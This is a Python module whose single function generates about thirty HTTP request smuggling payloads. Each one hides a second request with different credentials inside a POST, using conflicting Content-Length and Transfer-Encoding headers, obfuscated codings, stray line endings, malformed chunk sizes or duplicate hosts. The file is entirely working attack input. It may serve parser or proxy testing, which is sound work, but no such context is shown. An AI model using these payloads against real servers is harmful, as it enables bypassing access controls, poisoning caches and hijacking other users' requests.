"""Requests with another one hidden in them, by every trick that two readers may disagree about."""

from __future__ import annotations


def smuggling(host: str, path: str, right: str, wrong: str) -> tuple[str, str, dict[str, str]]:
    """The begin of a head with what is *right*, a whole request with what is *wrong*, and both.

    Both together are by the name of the trick; whoever falls for it sees the second request.
    """
    first = f"Host: {host}\r\nAuthorization: "
    head = f"POST {path} HTTP/1.1\r\n{first}{right}\r\n"
    hidden = f"GET {path}hidden HTTP/1.1\r\n{first}{wrong}\r\n\r\n"
    length = f"Content-Length: {len(hidden)}\r\n"
    chunked = "Transfer-Encoding: chunked\r\n"
    behind = f"0\r\n\r\n{hidden}"  # a whole body in chunks
    hiding = {
        "both": f"{head}{length}{chunked}\r\n{behind}",
        "both, the other way round": f"{head}{chunked}Content-Length: 5\r\n\r\n{behind}",
        "two lengths": f"{head}Content-Length: 0\r\n{length}\r\n{hidden}",
        "two lengths in one": f"{head}Content-Length: 0, {len(hidden)}\r\n\r\n{hidden}",
        "a length with a sign": f"{head}Content-Length: +{len(hidden)}\r\n\r\n{hidden}",
        "a length with a blank in it": f"{head}Content-Length: 0 {len(hidden)}\r\n\r\n{hidden}",
        "a blank before the colon": f"{head}Transfer-Encoding : chunked\r\n{length}\r\n{hidden}",
        "a tab before the colon": f"{head}Content-Length\t: 0\r\n\r\n{hidden}",
        "an unknown coding": f"{head}Transfer-Encoding: xchunked\r\n{length}\r\n{hidden}",
        "chunked and identity": f"{head}Transfer-Encoding: chunked, identity\r\n\r\n{behind}",
        "two codings": f"{head}{chunked}Transfer-Encoding: x\r\n\r\n{behind}",
        "a quoted coding": f'{head}Transfer-Encoding: "chunked"\r\n\r\n{behind}',
        "a coding with a vertical tab": f"{head}Transfer-Encoding:\x0bchunked\r\n\r\n{behind}",
        "a coding behind a line that goes on": f"{head}X: a\r\n {chunked}{length}\r\n{hidden}",
        "a coding that goes on": f"{head}Transfer-Encoding:\r\n chunked\r\n{length}\r\n{hidden}",
        "a coding behind LF alone": f"{head}X: a\n{chunked}\r\n{behind}",
        "a coding behind CR alone": f"{head}X: a\r{chunked}\r\n{behind}",
        "a coding behind NUL": f"{head}X: a\0{chunked}\r\n{behind}",
        "a head that ends with LF": f"{head}X: a\r\n\n{hidden}",
        "chunked in HTTP/1.0": f"{head}{chunked}\r\n{behind}".replace("1.1", "1.0", 1),
        "a chunk of LF": f"{head}{chunked}\r\n0\n\n{hidden}",
        "a chunk size with 0x": f"{head}{chunked}\r\n0x0\r\n\r\n{hidden}",
        "a chunk size that overflows": f"{head}{chunked}\r\n{'1' + '0' * 16}\r\n\r\n{hidden}",
        "a chunk size with _": f"{head}{chunked}\r\n0_0\r\n\r\n{hidden}",
        "an extension with LF": f"{head}{chunked}\r\n1;a\nX\r\n0\r\n\r\n{hidden}",
        "an extension with CR": f"{head}{chunked}\r\n1;a\rX\r\n0\r\n\r\n{hidden}",
        "a chunk without its end": f"{head}{chunked}\r\n1\r\nXX0\r\n\r\n{hidden}",
        "a request line with a tab": hidden.replace(" /", "\t/") + hidden,
        "two hosts": f"{head}Host: other.test\r\n\r\n{hidden}",
        "another host": head.replace(f" {path}", f" http://other.test{path}") + f"\r\n{hidden}",
    }
    return head, hidden, hiding
